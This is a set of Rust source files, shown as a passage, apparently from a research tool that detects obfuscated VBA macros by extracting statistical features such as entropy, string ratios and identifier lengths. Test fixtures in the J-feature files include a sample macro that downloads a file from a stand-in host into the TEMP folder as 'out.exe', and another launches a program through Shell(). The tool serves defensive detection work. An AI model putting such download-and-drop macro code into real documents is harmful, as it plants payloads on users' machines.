    if total == 0 {
        return 0.0;
    }
    let total = total as f64;
    counts
        .map(|n| {
            let p = n as f64 / total;
            -p * p.log2()
        })
        .sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counts_path_matches_text_path_bitwise() {
        for text in ["", "aaaa", "ab", "hello \u{2603} world\r\n\u{e9}"] {
            let a = vbadet_vba::MacroAnalysis::new(text);
            let fused = entropy_from_counts(a.stats().char_counts(), a.stats().char_len);
            assert_eq!(fused.to_bits(), shannon_entropy(text).to_bits(), "{text:?}");
        }
    }

    #[test]
    fn uniform_alphabet_hits_log2_n() {
        assert!((shannon_entropy("abcd") - 2.0).abs() < 1e-12);
        assert!((shannon_entropy("abcdefgh") - 3.0).abs() < 1e-12);
    }

    #[test]
    fn repetition_lowers_entropy() {
        let structured = shannon_entropy(&"abab".repeat(100));
        let mixed = shannon_entropy("the quick brown fox jumps over the lazy dog");
        assert!(structured < mixed);
    }

    #[test]
    fn random_identifiers_raise_entropy_over_plain_code() {
        let plain = "Sub Process()\n  Dim counter As Integer\n  counter = counter + 1\nEnd Sub";
        let obfuscated = "Sub ueiwjfdjkfdsv()\n  Dim yruuehdjdnnz As Integer\n  yruuehdjdnnz = yruuehdjdnnz + 1\nEnd Sub";
        assert!(shannon_entropy(obfuscated) > shannon_entropy(plain));
    }

    #[test]
    fn entropy_is_order_invariant() {
        let a = shannon_entropy("hello world");
        let b = shannon_entropy("dlrow olleh");
        assert!((a - b).abs() < 1e-12);
    }
}
