//! The proposed feature set V1–V15 (paper Table IV).
//!
//! | Feature | Description | Targets |
//! |---------|-------------|---------|
//! | V1 | # of chars in code except comments | O4 |
//! | V2 | # of chars in comments | O4 |
//! | V3 | avg. length of words | O4 |
//! | V4 | var. length of words | O4 |
//! | V5 | appearance frequency of string operators | O2 |
//! | V6 | % of chars belonging to string | O2 |
//! | V7 | avg. length of strings in code | O2 |
//! | V8 | % of text functions called | O3 |
//! | V9 | % of arithmetic functions called | O3 |
//! | V10 | % of type conversion functions called | O3 |
//! | V11 | % of financial functions called | O3 |
//! | V12 | % of functions with rich functionality called | — |
//! | V13 | Shannon entropy of the file | O1 |
//! | V14 | avg. length of identifiers | O1 |
//! | V15 | var. length of identifiers | O1 |
//!
//! Like [`crate::jset`], the extractor is fused: it reads the lexer's
//! single-pass accumulators and token-slice passes only, with
//! `crate::reference` holding the historical implementation as the
//! bit-equivalence oracle.

use crate::entropy::entropy_from_counts;
use crate::fused::{ident_lengths, token_derived, PassScratch};
use crate::{mean, variance};
use vbadet_vba::MacroAnalysis;

/// Number of V features.
pub const V_DIM: usize = 15;

/// Feature names, index-aligned with the vector.
pub const V_NAMES: [&str; V_DIM] = [
    "V1 # of chars in code except comments",
    "V2 # of chars in comments",
    "V3 avg. length of words",
    "V4 var. length of words",
    "V5 appearance frequency of string operators",
    "V6 % of chars belonging to string",
    "V7 avg. length of strings in code",
    "V8 % of text functions called",
    "V9 % of arithmetic functions called",
    "V10 % of type conversion functions called",
    "V11 % of financial functions called",
    "V12 % of functions with rich functionality called",
    "V13 shannon entropy of the file",
    "V14 avg. length of identifiers",
    "V15 var. length of identifiers",
];

/// Extracts V1–V15 from macro source code.
pub fn v_features(source: &str) -> [f64; V_DIM] {
    v_features_from(&MacroAnalysis::new(source))
}

/// Extracts V1–V15 from an existing lexical analysis (avoids re-tokenizing
/// when multiple feature sets are extracted from the same macro).
pub fn v_features_from(analysis: &MacroAnalysis) -> [f64; V_DIM] {
    v_features_fused(analysis, &mut PassScratch::default())
}

/// Fused extraction into caller-provided scratch buffers (the scan hot
/// path reuses one [`PassScratch`] per worker).
pub(crate) fn v_features_fused(
    analysis: &MacroAnalysis,
    scratch: &mut PassScratch,
) -> [f64; V_DIM] {
    let stats = analysis.stats();
    let code_chars = stats.char_len.saturating_sub(stats.comment_span_chars) as f64;
    let comment_chars = stats.comment_body_chars as f64;

    let v3 = mean(stats.word_lengths.iter().copied());
    let v4 = variance(&stats.word_lengths);

    let derived = token_derived(analysis);
    // V5 is normalized by V1 per §IV.C.4 ("we use V1 as the normalization
    // unit"): raw operator counts would just re-measure code size.
    let v5 = derived.string_ops as f64 / code_chars.max(1.0);

    let total_chars = stats.char_len as f64;
    let v6 = if total_chars == 0.0 {
        0.0
    } else {
        stats.string_chars as f64 / total_chars
    };
    // V7: same sequential token-order sum as J8.
    let string_count = analysis.string_count();
    let v7 = if string_count == 0 {
        0.0
    } else {
        stats.string_len_sum / string_count as f64
    };

    let total_calls = derived.call_count as f64;
    let ratio = |n: f64| {
        if total_calls == 0.0 {
            0.0
        } else {
            n / total_calls
        }
    };

    let v13 = entropy_from_counts(stats.char_counts(), stats.char_len);

    let idents = ident_lengths(analysis, scratch);
    let v14 = mean(idents.iter().copied());
    let v15 = variance(idents);

    [
        code_chars,
        comment_chars,
        v3,
        v4,
        v5,
        v6,
        v7,
        ratio(derived.cat_counts[0]),
        ratio(derived.cat_counts[1]),
        ratio(derived.cat_counts[2]),
        ratio(derived.cat_counts[3]),
        ratio(derived.cat_counts[4]),
        v13,
        v14,
        v15,
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    const PLAIN: &str = "Sub StartCalculator()\r\n\
        Dim Program As String\r\n\
        Dim TaskID As Double\r\n\
        On Error Resume Next\r\n\
        Program = \"calc.exe\"\r\n\
        'Run calculator program using Shell()\r\n\
        TaskID = Shell(Program, 1)\r\n\
        End Sub\r\n";

    #[test]
    fn vector_shape_and_names() {
        let v = v_features(PLAIN);
        assert_eq!(v.len(), V_DIM);
        assert_eq!(V_NAMES.len(), V_DIM);
        assert!(v.iter().all(|x| x.is_finite()));
    }

    #[test]
    fn empty_source_is_all_zero() {
        let v = v_features("");
        assert!(v.iter().all(|&x| x == 0.0), "{v:?}");
    }

    #[test]
    fn v1_v2_partition_chars() {
        let v = v_features(PLAIN);
        assert!(v[0] > 0.0, "code chars");
        assert!(v[1] > 0.0, "comment chars");
        // Comment body is shorter than code.
        assert!(v[0] > v[1]);
    }

    #[test]
    fn v5_counts_string_operators_normalized() {
        let few = v_features("Sub A()\r\nx = \"abcdefgh\"\r\nEnd Sub\r\n");
        let many = v_features(
            "Sub A()\r\nx = \"a\" & \"b\" & \"c\" & \"d\" & \"e\" & \"f\" & \"g\" & \"h\"\r\nEnd Sub\r\n",
        );
        assert!(many[4] > few[4], "split obfuscation must raise V5");
    }

    #[test]
    fn v8_rises_with_text_function_calls() {
        let v = v_features("x = Chr(65) & Mid(s, 1, 2) & Replace(a, b, c)");
        assert!(v[7] > 0.9, "all calls are text functions: {}", v[7]);
        let none = v_features("x = MyFunc(1)");
        assert_eq!(none[7], 0.0);
    }

    #[test]
    fn v11_detects_financial_functions() {
        let v = v_features("r = Pmt(0.05, 12, 1000) + FV(0.05, 12, 100)");
        assert!(v[10] > 0.9);
    }

    #[test]
    fn v12_detects_rich_functions() {
        let v = v_features("Shell \"calc\", 1\r\nSet o = CreateObject(\"X\")\r\n");
        assert!(v[11] > 0.9);
    }

    #[test]
    fn v13_rises_under_random_identifiers() {
        use rand::SeedableRng;
        let mut rng = rand::rngs::StdRng::seed_from_u64(3);
        let (obf, _) = vbadet_obfuscate_shim::random_apply(PLAIN, &mut rng);
        let plain_v = v_features(PLAIN);
        let obf_v = v_features(&obf);
        assert!(obf_v[12] > plain_v[12], "entropy must rise under O1");
        assert!(
            obf_v[13] > plain_v[13],
            "identifier length must rise under O1"
        );
    }

    /// Minimal reimplementation of O1 for this test (the real one lives in
    /// `vbadet-obfuscate`, which depends on this crate's sibling; avoiding a
    /// dev-dependency cycle).
    mod vbadet_obfuscate_shim {
        use rand::Rng;

        pub fn random_apply<R: Rng>(source: &str, rng: &mut R) -> (String, ()) {
            let mut out = source.to_string();
            for name in ["StartCalculator", "Program", "TaskID"] {
                let repl: String = (0..14)
                    .map(|_| (b'a' + rng.gen_range(0u8..26)) as char)
                    .collect();
                out = out.replace(name, &repl);
            }
            (out, ())
        }
    }

    #[test]
    fn v14_v15_track_identifier_lengths() {
        let uniform = v_features("Dim ab\r\nDim cd\r\nDim ef\r\n");
        assert!((uniform[13] - 2.0).abs() < 1e-9);
        assert_eq!(uniform[14], 0.0);
        let varied = v_features("Dim a\r\nDim abcdefghijklmn\r\n");
        assert!(varied[14] > 0.0);
    }

    #[test]
    fn v6_v7_track_strings() {
        let v = v_features("x = \"aaaaaaaaaaaaaaaaaaaaaaaa\"");
        assert!(v[5] > 0.5, "most chars are in the string: {}", v[5]);
        assert_eq!(v[6], 24.0);
    }

    #[test]
    fn fused_matches_reference_bitwise() {
        for src in [
            PLAIN,
            "",
            "x = Chr(65) & Mid(s, 1, 2)",
            "Dim Alpha\r\nalpha = ALPHA + beta$\r\n' note\r\nRem more\r\n",
        ] {
            let a = MacroAnalysis::new(src);
            let fused = v_features_from(&a);
            let reference = crate::reference::v_features_from(&a);
            for (i, (f, r)) in fused.iter().zip(reference.iter()).enumerate() {
                assert_eq!(f.to_bits(), r.to_bits(), "V{} differs on {src:?}", i + 1);
            }
        }
    }
}
