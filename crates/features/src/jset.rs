//! The comparison feature set J1–J20 (paper Table VI), assembled from the
//! obfuscated-JavaScript detection literature (Likarish et al. \[24\] and
//! Aebersold et al. \[26\]) and adapted to VBA as described in §V: J14 uses a
//! 150-character threshold (VBA has no minification), and JS-only features
//! (e.g. `eval()` counts) are omitted — exactly the 20 rows of Table VI.
//!
//! The extractor is *fused*: every character-level quantity (counts,
//! whitespace, entropy histogram, line lengths, word statistics) comes
//! from the accumulators the lexer filled in its single pass, and the
//! remaining quantities come from token-slice walks — the source text is
//! never re-walked. `crate::reference` keeps the historical multi-pass
//! implementation as a bit-equivalence oracle.

use crate::entropy::entropy_from_counts;
use crate::fused::{arg_length_stats, token_derived, PassScratch};
use vbadet_vba::MacroAnalysis;

/// Number of J features.
pub const J_DIM: usize = 20;

/// Feature names, index-aligned with the vector.
pub const J_NAMES: [&str; J_DIM] = [
    "J1 length in characters",
    "J2 avg. # of chars per line",
    "J3 total number of lines",
    "J4 # of strings",
    "J5 % human readable",
    "J6 % whitespace",
    "J7 % of methods called",
    "J8 avg. string length",
    "J9 avg. argument length",
    "J10 # of comments",
    "J11 avg. comments per line",
    "J12 # words",
    "J13 % words not in comments",
    "J14 % of lines > 150 chars",
    "J15 shannon entropy of the file",
    "J16 share of chars belonging to a string",
    "J17 % of backslash characters",
    "J18 avg. # of chars per function body",
    "J19 % of chars belonging to a function body",
    "J20 # of function definitions divided by J1",
];

/// Extracts J1–J20 from macro source code.
pub fn j_features(source: &str) -> [f64; J_DIM] {
    j_features_from(&MacroAnalysis::new(source))
}

/// Extracts J1–J20 from an existing lexical analysis.
pub fn j_features_from(analysis: &MacroAnalysis) -> [f64; J_DIM] {
    j_features_fused(analysis, &mut PassScratch::default())
}

/// Fused extraction into caller-provided scratch buffers (the scan hot
/// path reuses one [`PassScratch`] per worker).
pub(crate) fn j_features_fused(
    analysis: &MacroAnalysis,
    scratch: &mut PassScratch,
) -> [f64; J_DIM] {
    let stats = analysis.stats();
    let total_chars = stats.char_len as f64;
    let line_count = stats.line_count as f64;

    let j1 = total_chars;
    let j2 = if line_count == 0.0 {
        0.0
    } else {
        total_chars / line_count
    };
    let j3 = line_count;

    let string_count = analysis.string_count();
    let j4 = string_count as f64;

    let all_word_count = (stats.code_words + stats.comment_words) as f64;
    let readable = stats.readable_words as f64;
    let j5 = if all_word_count == 0.0 {
        0.0
    } else {
        readable / all_word_count
    };

    let j6 = if total_chars == 0.0 {
        0.0
    } else {
        stats.whitespace as f64 / total_chars
    };

    let derived = token_derived(analysis);
    let j7 = if all_word_count == 0.0 {
        0.0
    } else {
        derived.call_count as f64 / all_word_count
    };

    // J8: `string_len_sum` was accumulated string-by-string in token
    // order — the same sequential sum `mean()` performed.
    let j8 = if string_count == 0 {
        0.0
    } else {
        stats.string_len_sum / string_count as f64
    };
    let (arg_sum, arg_count) = arg_length_stats(analysis, scratch);
    let j9 = if arg_count == 0 {
        0.0
    } else {
        arg_sum / arg_count as f64
    };

    let j10 = analysis.comment_count() as f64;
    let j11 = if line_count == 0.0 {
        0.0
    } else {
        j10 / line_count
    };

    let j12 = all_word_count;
    let j13 = if all_word_count == 0.0 {
        0.0
    } else {
        stats.code_words as f64 / all_word_count
    };

    let j14 = if line_count == 0.0 {
        0.0
    } else {
        stats.long_lines as f64 / line_count
    };

    let j15 = entropy_from_counts(stats.char_counts(), stats.char_len);
    let j16 = if total_chars == 0.0 {
        0.0
    } else {
        stats.string_chars as f64 / total_chars
    };

    let j17 = if total_chars == 0.0 {
        0.0
    } else {
        stats.backslashes as f64 / total_chars
    };

    let j18 = if derived.body_count == 0 {
        0.0
    } else {
        derived.body_chars / derived.body_count as f64
    };
    let j19 = if total_chars == 0.0 {
        0.0
    } else {
        derived.body_chars / total_chars
    };
    let j20 = if total_chars == 0.0 {
        0.0
    } else {
        derived.body_count as f64 / total_chars
    };

    [
        j1, j2, j3, j4, j5, j6, j7, j8, j9, j10, j11, j12, j13, j14, j15, j16, j17, j18, j19, j20,
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    const SAMPLE: &str = "Sub Go()\r\n\
        ' a helpful comment\r\n\
        path = Environ(\"TEMP\") & \"\\out.exe\"\r\n\
        r = Download(\"http://x.test/a\", path)\r\n\
        End Sub\r\n";

    #[test]
    fn vector_shape() {
        let j = j_features(SAMPLE);
        assert_eq!(j.len(), J_DIM);
        assert_eq!(J_NAMES.len(), J_DIM);
        assert!(j.iter().all(|x| x.is_finite()));
    }

    #[test]
    fn empty_source_is_all_zero() {
        assert!(j_features("").iter().all(|&x| x == 0.0));
    }

    #[test]
    fn counts_are_plausible() {
        let j = j_features(SAMPLE);
        assert_eq!(j[0], SAMPLE.chars().count() as f64); // J1
        assert_eq!(j[2], 5.0); // J3 lines
        assert_eq!(j[3], 3.0); // J4 strings
        assert_eq!(j[9], 1.0); // J10 comments
        assert!(j[5] > 0.0 && j[5] < 1.0); // J6 whitespace share
    }

    #[test]
    fn j5_falls_under_random_identifiers() {
        let readable = j_features("Dim counter\r\ncounter = counter + 1\r\n");
        let random = j_features("Dim yruuehdjdnnz\r\nyruuehdjdnnz = yruuehdjdnnz + 1\r\n");
        assert!(readable[4] > random[4]);
    }

    #[test]
    fn j9_measures_argument_lengths() {
        // Arguments: `1` (1 char), `"abcdefgh"` (10 chars incl. quotes).
        let j = j_features("r = F(1, \"abcdefgh\")");
        assert!((j[8] - 5.5).abs() < 1e-9, "J9 = {}", j[8]);
        // Nested calls count the outer argument span once and inner args too.
        let nested = j_features("r = F(G(22))");
        assert!(nested[8] > 0.0);
    }

    #[test]
    fn j14_long_lines() {
        let long_line = format!("x = \"{}\"\r\ny = 1\r\n", "a".repeat(200));
        let j = j_features(&long_line);
        assert!(
            (j[13] - 0.5).abs() < 1e-9,
            "one of two lines is long: {}",
            j[13]
        );
    }

    #[test]
    fn j17_backslashes() {
        let j = j_features("p = \"C:\\dir\\file.exe\"");
        assert!(j[16] > 0.0);
    }

    #[test]
    fn j18_j19_j20_function_bodies() {
        let j = j_features(SAMPLE);
        assert!(j[17] > 0.0, "J18 body length");
        assert!(j[18] > 0.9, "J19 nearly all chars in one body: {}", j[18]);
        assert!(j[19] > 0.0, "J20 definitions per char");
    }

    #[test]
    fn fused_matches_reference_bitwise() {
        for src in [
            SAMPLE,
            "",
            "x = 1",
            "Rem c\r\n' d\r\nSub A()\nExit Sub\nEnd Sub\n",
            "r = F(1, \"abcdefgh\") ' args\r\n",
        ] {
            let a = MacroAnalysis::new(src);
            let fused = j_features_from(&a);
            let reference = crate::reference::j_features_from(&a);
            for (i, (f, r)) in fused.iter().zip(reference.iter()).enumerate() {
                assert_eq!(f.to_bits(), r.to_bits(), "J{} differs on {src:?}", i + 1);
            }
        }
    }
}
