//! The comparison feature set J1–J20 (paper Table VI), assembled from the
//! obfuscated-JavaScript detection literature (Likarish et al. \[24\] and
//! Aebersold et al. \[26\]) and adapted to VBA as described in §V: J14 uses a
//! 150-character threshold (VBA has no minification), and JS-only features
//! (e.g. `eval()` counts) are omitted — exactly the 20 rows of Table VI.

use crate::entropy::shannon_entropy;
use crate::mean;
use vbadet_vba::{MacroAnalysis, TokenKind};

/// Number of J features.
pub const J_DIM: usize = 20;

/// Feature names, index-aligned with the vector.
pub const J_NAMES: [&str; J_DIM] = [
    "J1 length in characters",
    "J2 avg. # of chars per line",
    "J3 total number of lines",
    "J4 # of strings",
    "J5 % human readable",
    "J6 % whitespace",
    "J7 % of methods called",
    "J8 avg. string length",
    "J9 avg. argument length",
    "J10 # of comments",
    "J11 avg. comments per line",
    "J12 # words",
    "J13 % words not in comments",
    "J14 % of lines > 150 chars",
    "J15 shannon entropy of the file",
    "J16 share of chars belonging to a string",
    "J17 % of backslash characters",
    "J18 avg. # of chars per function body",
    "J19 % of chars belonging to a function body",
    "J20 # of function definitions divided by J1",
];

/// Extracts J1–J20 from macro source code.
pub fn j_features(source: &str) -> [f64; J_DIM] {
    j_features_from(&MacroAnalysis::new(source))
}

/// Extracts J1–J20 from an existing lexical analysis.
pub fn j_features_from(analysis: &MacroAnalysis) -> [f64; J_DIM] {
    let source = analysis.source();
    let total_chars = analysis.char_len() as f64;
    let lines = analysis.lines();
    let line_count = lines.len() as f64;

    let j1 = total_chars;
    let j2 = if line_count == 0.0 {
        0.0
    } else {
        total_chars / line_count
    };
    let j3 = line_count;

    let strings = analysis.strings();
    let j4 = strings.len() as f64;

    let words = analysis.words();
    let comment_words = analysis.comment_words();
    let all_word_count = (words.len() + comment_words.len()) as f64;
    let readable = words
        .iter()
        .chain(comment_words.iter())
        .filter(|w| is_human_readable(w))
        .count() as f64;
    let j5 = if all_word_count == 0.0 {
        0.0
    } else {
        readable / all_word_count
    };

    let whitespace = source.chars().filter(|c| c.is_whitespace()).count() as f64;
    let j6 = if total_chars == 0.0 {
        0.0
    } else {
        whitespace / total_chars
    };

    let calls = analysis.call_sites();
    let j7 = if all_word_count == 0.0 {
        0.0
    } else {
        calls.len() as f64 / all_word_count
    };

    let j8 = mean(strings.iter().map(|s| s.chars().count() as f64));
    let j9 = mean(argument_lengths(analysis).into_iter());

    let comments = analysis.comments();
    let j10 = comments.len() as f64;
    let j11 = if line_count == 0.0 {
        0.0
    } else {
        j10 / line_count
    };

    let j12 = all_word_count;
    let j13 = if all_word_count == 0.0 {
        0.0
    } else {
        words.len() as f64 / all_word_count
    };

    let long_lines = lines.iter().filter(|l| l.chars().count() > 150).count() as f64;
    let j14 = if line_count == 0.0 {
        0.0
    } else {
        long_lines / line_count
    };

    let j15 = shannon_entropy(source);
    let j16 = if total_chars == 0.0 {
        0.0
    } else {
        analysis.string_chars() as f64 / total_chars
    };

    let backslashes = source.chars().filter(|&c| c == '\\').count() as f64;
    let j17 = if total_chars == 0.0 {
        0.0
    } else {
        backslashes / total_chars
    };

    let bodies = analysis.procedure_body_spans();
    let body_chars: f64 = bodies
        .iter()
        .map(|&(s, e)| source[s..e].chars().count() as f64)
        .sum();
    let j18 = if bodies.is_empty() {
        0.0
    } else {
        body_chars / bodies.len() as f64
    };
    let j19 = if total_chars == 0.0 {
        0.0
    } else {
        body_chars / total_chars
    };
    let j20 = if total_chars == 0.0 {
        0.0
    } else {
        bodies.len() as f64 / total_chars
    };

    [
        j1, j2, j3, j4, j5, j6, j7, j8, j9, j10, j11, j12, j13, j14, j15, j16, j17, j18, j19, j20,
    ]
}

/// A word "reads like language": alphabetic, bounded length, contains a
/// vowel, and has no long consonant run (Likarish et al.'s human-readable
/// property, operationalized).
fn is_human_readable(word: &str) -> bool {
    if word.len() < 2 || word.len() > 15 || !word.chars().all(|c| c.is_ascii_alphabetic()) {
        return false;
    }
    let lower = word.to_ascii_lowercase();
    let is_vowel = |c: char| matches!(c, 'a' | 'e' | 'i' | 'o' | 'u');
    if !lower.chars().any(is_vowel) {
        return false;
    }
    let mut run = 0usize;
    for c in lower.chars() {
        if is_vowel(c) {
            run = 0;
        } else {
            run += 1;
            if run > 4 {
                return false;
            }
        }
    }
    true
}

/// Character lengths of call arguments: for each call-site `name(…)`, the
/// top-level comma-separated argument spans.
fn argument_lengths(analysis: &MacroAnalysis) -> Vec<f64> {
    let tokens = analysis.tokens();
    let source = analysis.source();
    let mut out = Vec::new();
    let mut i = 0usize;
    while i < tokens.len() {
        let is_call_open = matches!(tokens[i].kind, TokenKind::Identifier(_))
            && matches!(
                tokens.get(i + 1).map(|t| &t.kind),
                Some(TokenKind::Operator("("))
            );
        if !is_call_open {
            i += 1;
            continue;
        }
        // Find the matching close paren, collecting top-level comma splits.
        let open = i + 1;
        let mut depth = 0usize;
        let mut arg_start = tokens[open].end;
        let mut j = open;
        let mut spans: Vec<(usize, usize)> = Vec::new();
        let mut closed = false;
        while j < tokens.len() {
            match &tokens[j].kind {
                TokenKind::Operator("(") => depth += 1,
                TokenKind::Operator(")") => {
                    depth -= 1;
                    if depth == 0 {
                        spans.push((arg_start, tokens[j].start));
                        closed = true;
                        break;
                    }
                }
                TokenKind::Operator(",") if depth == 1 => {
                    spans.push((arg_start, tokens[j].start));
                    arg_start = tokens[j].end;
                }
                _ => {}
            }
            j += 1;
        }
        if closed {
            for (s, e) in spans {
                let text = source[s..e].trim();
                if !text.is_empty() {
                    out.push(text.chars().count() as f64);
                }
            }
            i = j + 1;
        } else {
            i += 1;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const SAMPLE: &str = "Sub Go()\r\n\
        ' a helpful comment\r\n\
        path = Environ(\"TEMP\") & \"\\out.exe\"\r\n\
        r = Download(\"http://x.test/a\", path)\r\n\
        End Sub\r\n";

    #[test]
    fn vector_shape() {
        let j = j_features(SAMPLE);
        assert_eq!(j.len(), J_DIM);
        assert_eq!(J_NAMES.len(), J_DIM);
        assert!(j.iter().all(|x| x.is_finite()));
    }

    #[test]
    fn empty_source_is_all_zero() {
        assert!(j_features("").iter().all(|&x| x == 0.0));
    }

    #[test]
    fn counts_are_plausible() {
        let j = j_features(SAMPLE);
        assert_eq!(j[0], SAMPLE.chars().count() as f64); // J1
        assert_eq!(j[2], 5.0); // J3 lines
        assert_eq!(j[3], 3.0); // J4 strings
        assert_eq!(j[9], 1.0); // J10 comments
        assert!(j[5] > 0.0 && j[5] < 1.0); // J6 whitespace share
    }

    #[test]
    fn human_readable_heuristic() {
        for w in ["hello", "Program", "counter", "open"] {
            assert!(is_human_readable(w), "{w}");
        }
        for w in ["xqzptvk", "ueiwjfdjkfdsv", "a", "x1b2", "abcdefghijklmnop"] {
            assert!(!is_human_readable(w), "{w}");
        }
    }

    #[test]
    fn j5_falls_under_random_identifiers() {
        let readable = j_features("Dim counter\r\ncounter = counter + 1\r\n");
        let random = j_features("Dim yruuehdjdnnz\r\nyruuehdjdnnz = yruuehdjdnnz + 1\r\n");
        assert!(readable[4] > random[4]);
    }

    #[test]
    fn j9_measures_argument_lengths() {
        // Arguments: `1` (1 char), `"abcdefgh"` (10 chars incl. quotes).
        let j = j_features("r = F(1, \"abcdefgh\")");
        assert!((j[8] - 5.5).abs() < 1e-9, "J9 = {}", j[8]);
        // Nested calls count the outer argument span once and inner args too.
        let nested = j_features("r = F(G(22))");
        assert!(nested[8] > 0.0);
    }

    #[test]
    fn j14_long_lines() {
        let long_line = format!("x = \"{}\"\r\ny = 1\r\n", "a".repeat(200));
        let j = j_features(&long_line);
        assert!(
            (j[13] - 0.5).abs() < 1e-9,
            "one of two lines is long: {}",
            j[13]
        );
    }

    #[test]
    fn j17_backslashes() {
        let j = j_features("p = \"C:\\dir\\file.exe\"");
        assert!(j[16] > 0.0);
    }

    #[test]
    fn j18_j19_j20_function_bodies() {
        let j = j_features(SAMPLE);
        assert!(j[17] > 0.0, "J18 body length");
        assert!(j[18] > 0.9, "J19 nearly all chars in one body: {}", j[18]);
        assert!(j[19] > 0.0, "J20 definitions per char");
    }
}
