//! The historical multi-pass feature extractors, kept verbatim as the
//! bit-equivalence oracle for the fused hot path.
//!
//! These walk the source text repeatedly (per-feature `chars()` passes,
//! owned intermediate vectors) exactly as the pre-fusion implementation
//! did; equivalence tests assert that `crate::jset`/`crate::vset` produce
//! the same `f64` bit patterns. Compiled only for tests and under the
//! `reference` feature — never in production builds.

use crate::entropy::shannon_entropy;
use crate::jset::J_DIM;
use crate::vset::V_DIM;
use crate::{mean, variance};
use vbadet_vba::{FunctionCategory, MacroAnalysis, SpanKind};

/// Reference J1–J20 extraction (historical implementation).
pub fn j_features(source: &str) -> [f64; J_DIM] {
    j_features_from(&MacroAnalysis::new(source))
}

/// Reference J1–J20 extraction from an existing analysis.
pub fn j_features_from(analysis: &MacroAnalysis) -> [f64; J_DIM] {
    let source = analysis.source();
    let total_chars = source.chars().count() as f64;
    let lines = analysis.lines();
    let line_count = lines.len() as f64;

    let j1 = total_chars;
    let j2 = if line_count == 0.0 {
        0.0
    } else {
        total_chars / line_count
    };
    let j3 = line_count;

    let strings = analysis.strings();
    let j4 = strings.len() as f64;

    let words = analysis.words();
    let comment_words = analysis.comment_words();
    let all_word_count = (words.len() + comment_words.len()) as f64;
    let readable = words
        .iter()
        .chain(comment_words.iter())
        .filter(|w| is_human_readable(w))
        .count() as f64;
    let j5 = if all_word_count == 0.0 {
        0.0
    } else {
        readable / all_word_count
    };

    let whitespace = source.chars().filter(|c| c.is_whitespace()).count() as f64;
    let j6 = if total_chars == 0.0 {
        0.0
    } else {
        whitespace / total_chars
    };

    let calls = analysis.call_sites();
    let j7 = if all_word_count == 0.0 {
        0.0
    } else {
        calls.len() as f64 / all_word_count
    };

    let j8 = mean(strings.iter().map(|s| s.chars().count() as f64));
    let j9 = mean(argument_lengths(analysis).into_iter());

    let comments = analysis.comments();
    let j10 = comments.len() as f64;
    let j11 = if line_count == 0.0 {
        0.0
    } else {
        j10 / line_count
    };

    let j12 = all_word_count;
    let j13 = if all_word_count == 0.0 {
        0.0
    } else {
        words.len() as f64 / all_word_count
    };

    let long_lines = lines.iter().filter(|l| l.chars().count() > 150).count() as f64;
    let j14 = if line_count == 0.0 {
        0.0
    } else {
        long_lines / line_count
    };

    let j15 = shannon_entropy(source);
    let j16 = if total_chars == 0.0 {
        0.0
    } else {
        analysis.string_chars() as f64 / total_chars
    };

    let backslashes = source.chars().filter(|&c| c == '\\').count() as f64;
    let j17 = if total_chars == 0.0 {
        0.0
    } else {
        backslashes / total_chars
    };

    let bodies = analysis.procedure_body_spans();
    let body_chars: f64 = bodies
        .iter()
        .map(|&(s, e)| source[s..e].chars().count() as f64)
        .sum();
    let j18 = if bodies.is_empty() {
        0.0
    } else {
        body_chars / bodies.len() as f64
    };
    let j19 = if total_chars == 0.0 {
        0.0
    } else {
        body_chars / total_chars
    };
    let j20 = if total_chars == 0.0 {
        0.0
    } else {
        bodies.len() as f64 / total_chars
    };

    [
        j1, j2, j3, j4, j5, j6, j7, j8, j9, j10, j11, j12, j13, j14, j15, j16, j17, j18, j19, j20,
    ]
}

/// Reference V1–V15 extraction (historical implementation).
pub fn v_features(source: &str) -> [f64; V_DIM] {
    v_features_from(&MacroAnalysis::new(source))
}

/// Reference V1–V15 extraction from an existing analysis.
pub fn v_features_from(analysis: &MacroAnalysis) -> [f64; V_DIM] {
    let code_chars = analysis.code_chars() as f64;
    let comment_chars = analysis.comment_chars() as f64;

    let word_lengths: Vec<f64> = analysis
        .words()
        .iter()
        .map(|w| w.chars().count() as f64)
        .collect();
    let v3 = mean(word_lengths.iter().copied());
    let v4 = variance(&word_lengths);

    let v5 = analysis.string_operator_count() as f64 / code_chars.max(1.0);

    let total_chars = analysis.source().chars().count() as f64;
    let v6 = if total_chars == 0.0 {
        0.0
    } else {
        analysis.string_chars() as f64 / total_chars
    };
    let v7 = mean(analysis.strings().iter().map(|s| s.chars().count() as f64));

    let calls = analysis.call_sites();
    let total_calls = calls.len() as f64;
    let mut category_counts = [0.0f64; 5];
    for call in &calls {
        if let Some(cat) = vbadet_vba::functions::categorize(call) {
            let idx = match cat {
                FunctionCategory::Text => 0,
                FunctionCategory::Arithmetic => 1,
                FunctionCategory::TypeConversion => 2,
                FunctionCategory::Financial => 3,
                FunctionCategory::Rich => 4,
            };
            category_counts[idx] += 1.0;
        }
    }
    let ratio = |n: f64| {
        if total_calls == 0.0 {
            0.0
        } else {
            n / total_calls
        }
    };

    let v13 = shannon_entropy(analysis.source());

    let ident_lengths: Vec<f64> = analysis
        .identifiers()
        .iter()
        .map(|i| i.chars().count() as f64)
        .collect();
    let v14 = mean(ident_lengths.iter().copied());
    let v15 = variance(&ident_lengths);

    [
        code_chars,
        comment_chars,
        v3,
        v4,
        v5,
        v6,
        v7,
        ratio(category_counts[0]),
        ratio(category_counts[1]),
        ratio(category_counts[2]),
        ratio(category_counts[3]),
        ratio(category_counts[4]),
        v13,
        v14,
        v15,
    ]
}

/// A word "reads like language": alphabetic, bounded length, contains a
/// vowel, and has no long consonant run (Likarish et al.'s human-readable
/// property, operationalized).
fn is_human_readable(word: &str) -> bool {
    if word.len() < 2 || word.len() > 15 || !word.chars().all(|c| c.is_ascii_alphabetic()) {
        return false;
    }
    let lower = word.to_ascii_lowercase();
    let is_vowel = |c: char| matches!(c, 'a' | 'e' | 'i' | 'o' | 'u');
    if !lower.chars().any(is_vowel) {
        return false;
    }
    let mut run = 0usize;
    for c in lower.chars() {
        if is_vowel(c) {
            run = 0;
        } else {
            run += 1;
            if run > 4 {
                return false;
            }
        }
    }
    true
}

/// Character lengths of call arguments: for each call-site `name(…)`, the
/// top-level comma-separated argument spans.
fn argument_lengths(analysis: &MacroAnalysis) -> Vec<f64> {
    let tokens = analysis.tokens();
    let source = analysis.source();
    let mut out = Vec::new();
    let mut i = 0usize;
    while i < tokens.len() {
